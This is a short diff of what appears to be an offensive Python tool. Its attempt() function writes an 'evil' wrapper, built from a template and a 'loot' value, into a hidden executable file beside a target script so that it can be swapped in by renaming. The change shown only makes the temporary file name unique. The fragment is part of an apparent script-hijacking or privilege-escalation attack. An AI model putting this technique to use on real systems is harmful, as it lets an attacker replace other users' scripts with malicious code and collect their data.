@@ -103,7 +103,7 @@ def owner(path):
 def attempt(how, script, orig):
     evil = WRAPPER.format(orig=orig, loot=loot)
     if how == "rename":
-        tmp = os.path.join(os.path.dirname(script), ".w")
+        tmp = os.path.join(os.path.dirname(script), ".w-%d-%d" % (os.getpid(), len(lines)))
         fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
         with os.fdopen(fd, "w") as f:
             f.write(evil)
